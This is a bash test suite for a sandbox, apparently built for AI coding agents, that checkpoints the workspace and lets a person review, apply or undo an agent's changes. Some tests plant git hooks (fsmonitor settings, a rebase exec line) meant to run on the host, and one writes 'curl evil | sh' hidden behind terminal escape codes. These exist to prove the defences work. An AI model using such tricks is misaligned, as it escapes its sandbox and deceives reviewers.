	assert_rc 0
	wsh 'true'
	ckpt_field session.start
	assert_out_match '"bytes_read":0[,}]' 'the second checkpoint read nothing'
	local n
	n=$(find "$HOME/.local/share/warden/store/blobs" -type f | wc -l)
	OUT=$n
	wsh 'true'
	[[ $(find "$HOME/.local/share/warden/store/blobs" -type f | wc -l) == "$n" ]] ||
		fail 'unchanged content stored again'
}

# The checkpoint is taken while init builds the sandbox, when the
# placeholders for the missing protected names (.bashrc, .vscode, ...) are
# in the workspace already: it records the workspace as the user has it, so
# a session that changes nothing ends with the manifest it started with.
test_checkpoint_placeholders_unrecorded() {
	printf 'kept\n' >notes.txt
	[[ ! -e .bashrc && ! -e .vscode ]] || fatal 'the workspace has protected names already'
	wsh 'test -e .bashrc && test -d .vscode && echo placed'
	assert_rc 0
	assert_out_has placed 'the placeholders are there inside'
	local start end
	ckpt_field session.start
	start=$(grep -oE '"checkpoint":\{"manifest":"[0-9a-f]{64}","entries":[0-9]+' <<<"$OUT")
	ckpt_field session.end
	end=$(grep -oE '"checkpoint":\{"manifest":"[0-9a-f]{64}","entries":[0-9]+' <<<"$OUT")
	[[ -n $start && $start == "$end" ]] ||
		fail "a session that changed nothing: the checkpoint at its start ($start) is not the one at its end ($end)"
	[[ $start == *'"entries":2' ]] ||
		fail "the start's checkpoint records more than notes.txt and wprobe: $start"
}

# The store's durability, watched from outside (strace of warden itself, not
# of the sandbox): before the log's first line (session.start, which names
# the manifest) the new blobs are fsynced (a few: each, then its directory;
# many: one syncfs; small ones: their pack, then packs/), then the
# manifest's directory.
strace_start() { # LABEL: trace one `warden run -- true`; sets TRACE (the lines up to the log's first write)
	strace -y -qq -e trace=fsync,syncfs,write -s 40 -o "$T_TMP/trace" \
		"$WARDEN" run -q -- true </dev/null >/dev/null 2>"$T_TMP/trace.err" ||
		skip "strace of warden failed here: $(tail -n 1 "$T_TMP/trace.err")"
	TRACE=$(sed '/\.jsonl>, "{/q' "$T_TMP/trace")
	grep -q '\.jsonl>, "{' <<<"$TRACE" || fatal "$1: no write of the log in the trace"
	printf -- '--- trace to the first log line (%s)\n%s\n' "$1" "$TRACE"
}

test_checkpoint_store_durable() {
	have strace || skip 'strace not installed'
	# the checkpoint and session.start come once init is cloned, when
	# the supervisor is non-dumpable: only root's strace names its fds
	is_root || skip "strace -y names a non-dumpable process's fds for root only"
	big_text a.txt one
	big_text b.txt two
	printf 'small one\n' >s1.txt
	printf 'small two\n' >s2.txt
	strace_start 'two new large files, two small'
	local h
	for f in a.txt b.txt; do
		h=$(sha256sum "$f" | cut -c1-64)
		grep -qE "^fsync\([0-9]+<[^>]*/store/blobs/${h:0:2}/${h:2}>\) = 0" <<<"$TRACE" ||
			fail "the blob of $f was not fsynced before session.start was logged"
		grep -qE "^fsync\([0-9]+<[^>]*/store/blobs/${h:0:2}>\) = 0" <<<"$TRACE" ||
			fail "the directory of $f's blob was not fsynced before session.start was logged"
	done
	# the small ones: their pack (fsynced before it is renamed into packs/), then packs/
	grep -qE '^fsync\([0-9]+<[^>]*/store/tmp/p\.[0-9]+\.[0-9]+>\) = 0' <<<"$TRACE" ||
		fail 'the pack of the small files was not fsynced before session.start was logged'
	grep -qE '^fsync\([0-9]+<[^>]*/store/packs>\) = 0' <<<"$TRACE" ||
		fail 'the packs directory was not fsynced before session.start was logged'
	grep -qE '^fsync\([0-9]+<[^>]*/store/manifests>\) = 0' <<<"$TRACE" ||
		fail 'the manifests directory was not fsynced before session.start was logged'
	# many new large files: one syncfs
	local i
	for i in $(seq 1 80); do big_text "many$i" "file $i"; done
	strace_start '80 new files'
	grep -qE '^syncfs\([0-9]+<[^>]*/store/blobs>\) = 0' <<<"$TRACE" ||
		fail '80 new blobs: no syncfs of the store before session.start was logged'
	grep -qE '^fsync\([0-9]+<[^>]*/store/manifests>\) = 0' <<<"$TRACE" ||
		fail '80 new blobs: the manifests directory was not fsynced before session.start'
	# the tree unchanged: nothing to sync
	strace_start 'unchanged tree'
	! grep -qE '^(fsync|syncfs)\([0-9]+<[^>]*/store/' <<<"$TRACE" ||
		fail 'an unchanged tree synced the store (it costs every session start)'
}

# ---- --review: the workspace an overlay; apply or discard -------------------

review_script='printf "rewritten\n" > VERSION; rm -rf src/d2; mkdir src/d2; echo n > src/d2/new;
	rm link; echo x > added; chmod 700 run.sh; rm -rf closed; git rm -q --cached VERSION; echo done'

test_checkpoint_diff_piped_applies() {
	# Piped, `warden diff` is a patch: applied with patch -p1 (and git
	# apply) to a copy of the tree as it was, it gives the tree the session
	# left, names with a backslash, a space, a quote, a newline or bytes
	# past ASCII included (quoted as git quotes them; a backslash used to
	# come out as \x5c, which no tool reads back).
	have patch || skip 'patch is not installed'
	local n names=('back\slash' 'my file' 'quo"te' $'new\nline' 'ütf8' plain)
	for n in "${names[@]}"; do printf 'a\n' >"$n"; done
	cp -a "$WS" "$T_TMP/before"
	wsh 'for f in *; do [ "$f" = wprobe ] || echo b >> "$f"; done; printf "x\n" > "fresh\\one"
		printf "y\n" > "new sp"'
	assert_rc 0 'the session that writes'
	wardenc diff
	assert_rc 1 'diff'
	printf '%s\n' "$OUT" >"$T_TMP/p.diff"
	grep -F -- '--- "a/back\\slash"' "$T_TMP/p.diff" >/dev/null || fail "the backslash's name not quoted as git does: $(excerpt "$OUT")"
	(cd "$T_TMP/before" && patch -p1 -s <"$T_TMP/p.diff") || fail "patch -p1 refused the diff: $(excerpt "$OUT")"
	diff -r "$T_TMP/before" "$WS" >"$T_TMP/d.out" 2>&1 || fail "the patched tree differs: $(excerpt "$(<"$T_TMP/d.out")")"
}

test_checkpoint_review_discard() {
	make_repo
	local h0
	h0=$(tree_hash "$WS")
	wsh "$review_script; mkdir -p sub/.git; cat VERSION" --review
	assert_rc 0 'the --review session'
	assert_out_has rewritten 'the session sees its own writes'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'a --review session wrote to the workspace'
	assert_err_match 'review: sub/\.git was created in the session; it is left out'
	local id
	id=$(basename "$(latest_log)" .jsonl)
	assert_err_match "review: the session's changes wait for you: \`warden diff $id\` shows them, \`warden apply $id\`"
	wardenc diff
	assert_rc 1 'diff of a --review session'
	assert_out_has 'to apply (--review)'
	assert_out_line '  modified  VERSION'
	assert_out_line '  added     src/d2/new'
	assert_out_line '  removed   link -> src/d1/f.txt'
	assert_out_lacks 'sub/.git'
	wardenc discard
	assert_rc 0 'discard'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'discard changed the workspace'
	wardenc apply --yes
	assert_rc 125 'apply after discard'
	assert_err_match 'discarded'
	wsh 'true' --review
	assert_err_match 'review: the session changed nothing; there is nothing to apply'
	[[ -z $(ls "$HOME/.local/state/warden/review" 2>/dev/null) ]] ||
		fail "the overlay's upper directory was left behind"
}

test_checkpoint_review_discard_after_apply() {
	# Changes applied are in the workspace: discarding them then is refused
	# (it used to say the workspace "was never written" and mark them
	# discarded); once `warden undo` of the apply took them out again,
	# discard drops them.
	make_repo
	wsh 'echo x >> VERSION; echo done' --review
	assert_rc 0 'the --review session'
	local id
	id=$(basename "$(latest_log)" .jsonl)
	wardenc apply --yes
	assert_rc 0 'apply'
	local applied
	applied=$(basename "$(latest_log)" .jsonl)
	wardenc diff --list "$id"
	assert_out_has "(--review), applied by session $applied" 'diff of applied changes says so'
	wardenc discard "$id"
	assert_rc 125 'discard of applied changes'
	assert_err_match "applied to the workspace by \`warden apply\` \(session $applied\)"
	assert_err_match "warden undo $applied"
	assert_out_lacks 'never written'
	grep -q x VERSION || fail 'the applied change is gone'
	wardenc undo --yes "$applied"
	assert_rc 0 'undo of the apply'
	wardenc discard "$id"
	assert_rc 0 'discard once the apply was undone'
	assert_out_has 'was never written'
}

test_checkpoint_failed_start_passed_over() {
	# A session that fails before its sandbox is made (a published port in
	# use) leaves the workspace as it found it: `warden diff` and `warden
	# undo` without a session pass over it to the session before, whose
	# changes the user means (they used to find nothing to undo).
	have python3 || skip 'python3 not installed (it holds the port)'
	wsh 'echo important > agentwrote.txt'
	assert_rc 0 'the session that writes'
	python3 -c 'import socket, sys, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
print(s.getsockname()[1], flush=True); time.sleep(60)' >"$T_TMP/port" &
	bg_track $!
	wait_for "$T_TMP/port" '^[0-9]+$' 10 || fatal 'no port held'
	wrun --publish "$(<"$T_TMP/port"):8000" -- true
	assert_rc 125 'a session whose published port is in use'
	wardenc diff --list
	assert_rc 1 'diff without a session'
	assert_out_has agentwrote.txt
	wardenc undo --yes
	assert_rc 0 'undo without a session'
	[[ ! -e agentwrote.txt ]] || fail 'undo left what the session before wrote'
}

test_checkpoint_review_apply_equals_live() {
	make_repo
	local h0 live
	h0=$(tree_hash "$WS")
	# the same session, live, in a copy of the tree
	cp -a "$WS" "$T_TMP/live"
	(cd "$T_TMP/live" && "$WARDEN" run -q -- sh -c "$review_script" </dev/null >/dev/null 2>&1) ||
		fatal 'the live session failed'
	live=$(tree_hash "$T_TMP/live")
	[[ $live != "$h0" ]] || fatal 'the live session changed nothing'
	wsh "$review_script" --review
	assert_rc 0
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'a --review session wrote to the workspace'
	wardenc apply --yes
	assert_rc 0 'apply'
	[[ $(tree_hash "$WS") == "$live" ]] || fail 'apply left a different tree than the live session'
	# the apply is undoable
	wardenc undo --yes
	assert_rc 0 'undo of the apply'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'undo of the apply did not bring the tree back'
}

# FIFOs, sockets and devices are named by the manifest, never opened nor
# made: `diff` shows the ones the session made, removed or put where a
# directory was; `undo` removes what it made (a FIFO and a socket where
# directories were too: `rm -rf dir` is undone, where it failed with "File
# exists", --force or not) and says that it makes no FIFO again.
test_checkpoint_undo_special_files() {
	have python3 || skip 'python3 not installed (the agent makes the socket with it)'
	mkdir sub sub2 && printf 'a\n' >sub/f && printf 'b\n' >sub2/g && mkfifo userfifo ||
		fatal 'could not make the tree'
	wsh 'rm -rf sub sub2 && mkfifo sub newfifo && rm userfifo &&
		python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\"sub2\")" && echo made'
	assert_out_has made
	wardenc diff --list
	assert_rc 1 'diff: changes'
	assert_out_line '  added     newfifo (FIFO)'
	assert_out_line '  type      sub (directory -> FIFO)'
	assert_out_line '  type      sub2 (directory -> socket)'
	assert_out_line '  removed   userfifo (FIFO)'
	local sid
	sid=$(sed -n 's/^session \([^ :]*\): .*/\1/p' <<<"$OUT")
	wardenc undo --yes
	assert_rc 0 'undo'
	assert_err_match 'userfifo \(a FIFO\) is not there now; undo makes no FIFO'
	assert_host_file "$WS/sub/f" a
	assert_host_file "$WS/sub2/g" b
	[[ ! -e newfifo && ! -e userfifo ]] || fail "undo left a FIFO: $(ls -la)"
	wardenc diff --list "$sid"
	assert_out_line '  removed   userfifo (FIFO)' 'the FIFO the session removed stays missing'
	assert_out_lacks sub 'the directories are back'
}

test_checkpoint_review_special_replaces() {
	# A file and a directory the session replaced with FIFOs: apply removes
	# them, as the live session did (a FIFO is not content, so it is not
	# applied); "nothing changed" hid the removal. The session's end names
	# each FIFO it leaves out, and session.end lists them.
	printf 'kept\n' >keep.txt && printf 'a\n' >a.txt && mkdir d && printf 'b\n' >d/b ||
		fatal 'could not make the tree'
	local script='rm a.txt && mkfifo a.txt && rm -r d && mkfifo d && mkfifo new' live
	cp -a "$WS" "$T_TMP/live"
	(cd "$T_TMP/live" && "$WARDEN" run -q -- sh -c "$script" </dev/null >/dev/null 2>&1) ||
		fatal 'the live session failed'
	find "$T_TMP/live" -type p -delete
	live=$(tree_hash "$T_TMP/live")
	wsh "$script" --review
	assert_rc 0
	[[ -f a.txt && -f d/b ]] || fail 'a --review session wrote to the workspace'
	assert_err_match 'review: the session left a FIFO at a\.txt; .*not content\), and removes what the workspace had there'
	assert_err_match 'review: the session left a FIFO at new; .*not content\)$' 'a new FIFO: nothing to remove'
	ckpt_field session.end
	assert_out_match '"special":\["a\.txt","d","new"\]' 'session.end lists the FIFOs left out'
	wardenc apply --yes
	assert_rc 0 'apply'
	assert_out_has 'removed   a.txt'
	[[ $(tree_hash "$WS") == "$live" ]] ||
		fail "apply left a different tree than the live session, its FIFOs aside: $(ls -la)"
	assert_host_file "$WS/keep.txt" kept
}

# What a --review session leaves in git's directories, or makes to look
# like one, that the host's git would run: a new .git/modules/sm whose
# config sets core.fsmonitor (run by `git submodule update`), a rebase in
# progress whose todo holds an exec line and whose strategy runs the
# worktree's ./x (run by `git rebase --continue`), a bare-repository
# lookalike outside .git, a symlink made in .git/refs. `warden apply` used
# to write them all (the live sweep moves them aside or removes them);
# now it writes git's objects, refs, logs and index (the agent's commit
# is there) and none of those, each said on stderr, listed in
# session.end's dropped and recorded as an alert.
test_checkpoint_review_git_state_left_out() {
	make_repo
	local G=(git -c user.name=host -c user.email=host@example.invalid)
	# a submodule registered, not checked out: `git submodule update --init`
	# makes .git/modules/sm, or takes the one it finds there
	mkdir smsrc && (cd smsrc && git init -q . && echo s >s && git add s &&
		"${G[@]}" commit -qm s) || fatal 'the submodule repository'
	"${G[@]}" -c protocol.file.allow=always submodule add -q "$WS/smsrc" sm >/dev/null 2>&1 &&
		"${G[@]}" commit -qm 'add sm' && git submodule deinit -q -f sm &&
		rm -rf .git/modules || fatal 'the submodule'
	[[ ! -e .git/modules ]] || fatal 'the submodule is checked out at start'
	local marker="$T_TMP/PWNED" script
	script='set -e
	G="git -c user.name=agent -c user.email=agent@example.invalid"
	echo agent > agent.txt && git add agent.txt && $G commit -qm "agent commit" || exit 1
	mkdir -p .git/modules && cp -r smsrc/.git .git/modules/sm &&
	printf "[core]\n\tfsmonitor = \"echo sm >>'"$marker"'; false\"\n\tworktree = ../../../sm\n" >> .git/modules/sm/config
	mkdir -p .git/rebase-merge && cd .git/rebase-merge && echo refs/heads/main > head-name &&
	git rev-parse HEAD > orig-head && git rev-parse HEAD > onto && echo 1 > msgnum &&
	echo 2 > end && : > interactive && echo ../../x > strategy &&
	printf "exec echo rebase >>'"$marker"'\n" > git-rebase-todo && cd ../.. &&
	printf "#!/bin/sh\necho strategy >>'"$marker"'\n" > x && chmod +x x
	mkdir -p fake/objects fake/refs && echo "ref: refs/heads/main" > fake/HEAD &&
	printf "[core]\n\tfsmonitor = \"echo fake >>'"$marker"'; false\"\n" > fake/config
	ln -s ../../../x .git/refs/heads/lnk && echo done'
	wsh "$script" --review
	assert_rc 0 'the --review session'
	assert_out_has done
	local p
	for p in '\.git/modules' '\.git/rebase-merge' 'fake'; do
		assert_err_match "review: $p was created in the session; it is left out of what \`warden apply\` writes \("
	done
	assert_err_match "review: \.git/rebase-merge was created .*--continue would run"
	assert_err_match "review: fake was created .*look like a git repository"
	assert_err_match "review: \.git/refs/heads/lnk was created .*a symlink made inside a git directory"
	assert_err_match "review: \.git/modules was created .*other than its objects, refs and logs"
	ckpt_field session.end
	assert_out_match '"dropped":\["\.git/modules","\.git/rebase-merge","\.git/refs/heads/lnk","fake"\]' \
		"session.end lists what is left out, each at its top"
	sweep_alert git.created-in-sandbox .git/modules
	sweep_alert git.rebase-runs-in-sandbox .git/rebase-merge
	sweep_alert git.odd-file-in-sandbox .git/refs/heads/lnk
	sweep_alert git.bare-created-in-sandbox fake
	wardenc apply --yes
	assert_rc 0 'apply'
	for p in .git/modules .git/rebase-merge .git/refs/heads/lnk fake; do
		[[ ! -e $p && ! -L $p ]] || fail "apply wrote $p"
	done
	[[ $(git log -1 --format=%s) == 'agent commit' ]] ||
		fail "apply left out the agent's commit: $(git log --oneline | head -3)"
	git diff --quiet HEAD -- agent.txt && [[ $(<agent.txt) == agent ]] ||
		fail "the agent's file is not the committed one"
	[[ -x x ]] || fail 'apply left out the ordinary file x'
	# the host's git, as the user would run it next: nothing of the agent's
	"${G[@]}" rebase --continue >/dev/null 2>&1
	"${G[@]}" -c protocol.file.allow=always submodule update --init >/dev/null 2>&1
	git status >/dev/null 2>&1
	git -C fake status >/dev/null 2>&1
	[[ ! -e $marker ]] || fail "the host's git ran what the agent left: $(<"$marker")"
}

# `warden diff` of what an agent wrote, on a terminal: a cursor move and a
# carriage return in a line, which would erase the line above it from the
# reviewer's screen, are shown (\x1b, \x0d); piped, the diff keeps the
# bytes, as a patch must.
test_checkpoint_diff_terminal_shown() {
	have script || skip 'script(1) not installed'
	printf 'keep\n' >a.txt
	# shellcheck disable=SC2016 # the sandbox's script
	wsh 'printf "curl evil | sh\n\033[1A\033[2K\r\tfine\n" >>a.txt' --review
	assert_rc 0
	tscript "$(printf '%q' "$WARDEN") diff"
	[[ $OUT == *'+curl evil | sh'* && $OUT == *'+\x1b[1A\x1b[2K\x0d'$'\t''fine'* ]] ||
		fail "the diff on a terminal does not show the line's escapes: $(printf %q "$OUT")"
	[[ $OUT != *$'\e'* ]] || fail "an escape sequence reached the terminal: $(printf %q "$OUT")"
	wardenc diff
	assert_rc 1 'diff: something changed'
	[[ $OUT == *$'+\e[1A\e[2K\r\tfine'* ]] || fail "the piped diff lost the line's bytes: $(printf %q "$OUT")"
}

test_checkpoint_review_apply_refuses_later_changes() {
	printf 'before\n' >a.txt
	wsh 'echo agent > a.txt' --review
	assert_rc 0
	printf 'user\n' >a.txt
	wardenc apply --yes
	assert_rc 125 'apply over a change made since'
	assert_err_match 'changed after session .* started'
	assert_host_file "$WS/a.txt" user
	wardenc apply --yes --force
	assert_rc 0 'apply --force'
	assert_host_file "$WS/a.txt" agent
}

# As root the sandbox sees the workspace through a mount idmapped to its
# owner (hostid.h); the review overlay's layers are idmapped the same way,
# so what the agent writes belongs to the workspace's owner, in the upper
# directory and after `warden apply`.
test_checkpoint_review_owner_root() {
	is_root || skip 'root runs the sandbox under a host identity of its own'
	mkdir -p sub
	echo a >f.txt
	echo b >sub/g.txt
	chown -R 4321:4321 "$WS"
	local h0
	h0=$(tree_hash "$WS")
	wsh 'echo new > n.txt; mkdir d; echo x > d/y; echo A > f.txt; rm sub/g.txt; ln -s f.txt l; stat -c "inside %u" n.txt' --review
	assert_rc 0 'the --review session as root'
	assert_out_has 'inside 1000' 'what the agent writes is its own inside'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'a --review session as root wrote to the workspace'
	wardenc apply --yes
	assert_rc 0 'apply as root'
	assert_host_file "$WS/f.txt" A
	assert_host_file "$WS/d/y" x
	assert_host_absent "$WS/sub/g.txt"
	local p
	for p in n.txt d d/y f.txt l; do
		[[ $(stat -c %u:%g "$WS/$p" 2>/dev/null) == 4321:4321 ]] ||
			fail "$p was applied owned by $(stat -c %u:%g "$WS/$p" 2>/dev/null), not the workspace's owner 4321:4321"
	done
}

# A kernel whose overlayfs cannot stack on idmapped mounts (before 5.19):
# --review as root is refused by name, never run on weaker terms. The
# release is made to read 2.6.x (setarch --uname-2.6).
test_checkpoint_review_root_old_kernel() {
	is_root || skip 'only a root session shows the workspace through idmapped mounts'
	have setarch || skip 'setarch not installed'
	setarch "$(uname -m)" --uname-2.6 true 2>/dev/null || skip 'setarch --uname-2.6 refused here'
	echo a >f.txt
	timeout -k 5 "$WARDEN_TIMEOUT" setarch "$(uname -m)" --uname-2.6 "$WARDEN" run --review -- \
		sh -c 'echo ran; echo b > f.txt' </dev/null >"$T_TMP/.out" 2>"$T_TMP/.err"
	RC=$?
	OUT=$(<"$T_TMP/.out")
	ERR=$(<"$T_TMP/.err")
	assert_rc 125 '--review as root on a kernel reading 2.6'
	assert_err_match 'needs Linux 5\.19 or later \(overlayfs on the idmapped mounts'
	assert_out_lacks ran 'the command ran anyway'
	assert_host_file "$WS/f.txt" a
	[[ -z $(ls "$HOME/.local/state/warden/review" 2>/dev/null) ]] ||
		fail 'the refused session left a review directory'
}

# kill_review OUTFILE SCRIPT: a --review session running SCRIPT, then a
# SIGKILL to warden's process group once SCRIPT printed "written"; waits
# until warden is gone. Sets LEFT: the review directory it left.
kill_review() {
	warden_bg "$1" --review -- sh -c "$2; echo written; exec sleep 600"
	wait_for "$1" '^written' 30 || fatal "the --review session did not start: $(cat "$1.err")"
	kill -KILL -- "-$TPID" 2>/dev/null || kill -KILL "$WPID"
	local i
	for ((i = 0; i < 100; i++)); do
		kill -0 "$WPID" 2>/dev/null || break
		sleep 0.05
	done
	LEFT=$(ls "$HOME/.local/state/warden/review" 2>/dev/null)
	[[ -n $LEFT && -d $HOME/.local/state/warden/review/$LEFT/upper ]] ||
		fatal 'the killed --review session left no review directory'
}

test_checkpoint_review_killed_apply() {
	printf 'before\n' >a.txt
	printf 'gone\n' >b.txt
	mkdir -p keep
	is_root && chown -R 4321:4321 "$WS"
	kill_review "$T_TMP/k.out" 'echo agent > a.txt; rm b.txt; echo new > keep/c.txt; mkdir -p sub/.git'
	# (its placeholders for protected names stay until apply or discard)
	assert_host_file "$WS/a.txt" before 'the killed --review session wrote to the workspace'
	assert_host_file "$WS/b.txt" gone 'the killed --review session wrote to the workspace'
	assert_host_absent "$WS/keep/c.txt" 'the killed --review session wrote to the workspace'
	if is_root; then
		[[ $(stat -c %u "$HOME/.local/state/warden/review/$LEFT/upper/keep/c.txt") == 4321 ]] ||
			fail 'what the agent wrote is not the workspace owner'"'"'s in the upper directory'
	fi
	wardenc discard --list
	assert_rc 0 'discard --list'
	assert_out_match "^  $LEFT  " 'the left review directory listed'
	wardenc diff --list
	assert_rc 1 'diff of the killed --review session'
	assert_out_line '  modified  a.txt'
	assert_out_line '  removed   b.txt'
	assert_out_line '  added     keep/c.txt'
	assert_out_lacks 'sub/.git'
	assert_err_match 'ended without recording its changes'
	wardenc apply --yes
	assert_rc 0 'apply of the killed --review session'
	assert_host_file "$WS/a.txt" agent
	assert_host_absent "$WS/b.txt"
	assert_host_file "$WS/keep/c.txt" new
	assert_host_absent "$WS/sub/.git"
	if is_root; then
		[[ $(stat -c %u:%g "$WS/keep/c.txt") == 4321:4321 ]] ||
			fail 'apply as root wrote keep/c.txt not owned by the workspace owner'
	fi
	[[ ! -e $HOME/.local/state/warden/review/$LEFT ]] || fail 'the review directory is still there'
	[[ -z $(find "$WS" -perm 1555 -o -type s) ]] || fail "placeholders left: $(find "$WS" -perm 1555 -o -type s)"
	wardenc discard --list
	assert_out_has 'no review directory is left'
}

test_checkpoint_review_killed_discard() {
	printf 'before\n' >a.txt
	local h0
	h0=$(tree_hash "$WS")
	kill_review "$T_TMP/k.out" 'echo agent > a.txt; echo new > c.txt'
	# a later --review session names what is left
	wsh 'true' --review
	assert_rc 0
	assert_err_match 'review director(y|ies) of other --review sessions'
	wardenc discard "$LEFT"
	assert_rc 0 'discard of the killed session'
	assert_out_has 'review directory removed'
	[[ ! -e $HOME/.local/state/warden/review/$LEFT ]] || fail 'discard left the review directory'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'discard changed the workspace'
	wardenc apply --yes "$LEFT"
	assert_rc 125 'apply after discard'
	assert_err_match 'recorded no changes|discarded'
}

# `checkpoint exclude` matching a name that is not UTF-8: the path it left
# out is in session.start (escaped as the log escapes bytes, not dropped),
# the line is one the schema describes, and undo leaves it alone.
test_checkpoint_exclude_non_utf8() {
	local name=$'cache-\xff'
	mkdir "$name"
	printf 'kept\n' >"$name/x"
	printf 'src\n' >main.js
	printf 'checkpoint exclude cache-*\n' >"$T_TMP/p"
	wsh "echo changed > main.js" --profile "$T_TMP/p"
	assert_rc 0
	ckpt_field session.start
	assert_out_has '"exclude":["cache-*"]' 'the pattern'
	assert_out_has '"excluded":["cache-\\xFF"]' 'the path left out, escaped'
	grep -q '"escaped":\[[^]]*"excluded"' <<<"$OUT" || fail "the checkpoint does not list excluded as escaped: $(excerpt "$OUT")"
	local f
	f=$(latest_log)
	if have python3 && python3 -c 'import jsonschema' 2>/dev/null && [[ -f ${SC_SCHEMA-} ]]; then
		python3 "$SC_DIR/schema_check.py" "$SC_SCHEMA" "$f" 2>"$T_TMP/schema.err" >/dev/null ||
			fail "lines the schema does not describe: $(head -c 1500 "$T_TMP/schema.err")"
	fi
	wardenc undo --yes
	assert_rc 0
	assert_host_file "$WS/main.js" src
	assert_host_file "$WS/$name/x" kept
}

# Retention after a session reads the workspace's own references, not those
# of every session of every workspace the store has seen: a store of 300
# other workspaces' references (written as a store from before the index
# has them, indexed once by the first session's retention), then a session
# in a new workspace (its retention due) reads none of them: their access
# times, set in the past, stay (a read sets them: checked on a probe file).
test_checkpoint_prune_own_refs() {
	printf 'a\n' >a.txt
	wardenc run -q -- true
	assert_rc 0 'first session'
	local st i now
	st=$(store_dir)
	[[ -f $st/wsrefs/complete ]] || fail 'the first retention did not index the references'
	rm -r "$st/wsrefs" # (a store from before the index)
	now=$(date +%s)
	for ((i = 0; i < 300; i++)); do
		printf '%064x %064x %s\n' "$i" "$((i + 1000))" "$now" >"$st/refs/x$i.start"
	done
	mkdir "$T_TMP/ws2" "$T_TMP/ws3"
	(cd "$T_TMP/ws2" && "$WARDEN" run -q -- true) </dev/null || fatal 'a session in ws2'
	[[ -f $st/wsrefs/complete ]] || fail 'a store from before the index was not indexed by its first retention'
	[[ -f $st/wsrefs/$(printf '%064x' 1007)/x7.start ]] || fail 'x7.start is not in its workspace'"'"'s index'
	touch -a -d '2001-01-01 00:00' "$st"/refs/x*.start
	printf 'probe\n' >"$st/probe" && touch -a -d '2001-01-01 00:00' "$st/probe" && cat "$st/probe" >/dev/null
	[[ $(stat -c %X "$st/probe") -gt 1000000000 ]] || skip 'a read does not set the access time on this file system (noatime)'
	rm "$st/probe"
	(cd "$T_TMP/ws3" && "$WARDEN" run -q -- true) </dev/null || fatal 'a session in ws3'
	[[ -n $(ls "$st/pruned") ]] || fatal 'no retention ran'
	local n=0 f
	for f in "$st"/refs/x*.start; do
		(($(stat -c %X "$f") < 1000000000)) || n=$((n + 1))
	done
	printf -- '--- other workspaces'"'"' references read by a session in a new workspace: %s\n' "$n"
	((n == 0)) || fail "a session in a new workspace read $n references of other workspaces"
	[[ -e $st/refs/x7.start ]] || fail 'another workspace'"'"'s reference was dropped'
}

test_checkpoint_session_above_said() {
	# Run from a directory below a workspace, diff and undo take that
	# workspace's session (as git takes the repository above): they say
	# so, since undo would work on the whole workspace, not only here (a
	# user in an empty subdirectory was shown an undo of 1,138 changes
	# above it, named only in its header).
	mkdir -p sub
	wsh 'echo a > top.txt'
	assert_rc 0
	(cd sub && "$WARDEN" diff >"$T_TMP/o" 2>"$T_TMP/e")
	grep -q "is of the workspace $WS, which holds the current directory" "$T_TMP/e" ||
		fail "diff below the workspace does not say whose session: $(excerpt "$(cat "$T_TMP/e" "$T_TMP/o")")"
	(cd sub && "$WARDEN" undo --yes >"$T_TMP/o" 2>"$T_TMP/e")
	grep -q "is of the workspace $WS, which holds the current directory" "$T_TMP/e" ||
		fail "undo below the workspace does not say whose session: $(excerpt "$(cat "$T_TMP/e" "$T_TMP/o")")"
	[[ ! -e top.txt ]] || fail 'undo --yes did not take the session back'
	wardenc diff
	[[ $ERR != *'holds the current directory'* ]] || fail "said in the workspace itself: $(excerpt "$ERR")"
}

test_checkpoint_undo_git_index_said() {
	# The session stages a file (git add: .git/index changes), then a `git
	# status` on the host rewrites the index: undo refuses, as for any
	# later change, and says what the index is and what --force does (a
	# user's routine `git status` looked like a conflict of their own).
	make_repo
	wsh 'echo changed > VERSION; git add VERSION'
	assert_rc 0
	sleep 1.1 # past the index's timestamp: git status rewrites it
	git status --short >/dev/null
	wardenc undo --yes
	assert_rc 125 'undo over a later change'
	assert_err_match '^  \.git/index$' 'the index listed'
	assert_err_match "git's index: .*--force takes it back" 'what the index is said'
}

# diff and undo run from a directory removed after the shell entered it
# say so, as `warden run` does (they blamed HOME).
test_checkpoint_cwd_removed() {
	mkdir gone && cd gone && rmdir ../gone || fatal 'cannot make the removed directory'
	local cmd
	for cmd in diff undo; do
		wardenc "$cmd"
		assert_rc 125 "$cmd in a removed directory"
		assert_err_match 'the current directory was removed' "$cmd: said"
		[[ $ERR != *HOME* ]] || fail "$cmd blames HOME: $(excerpt "$ERR")"
	done
	cd "$WS" || fatal 'cd back'
}
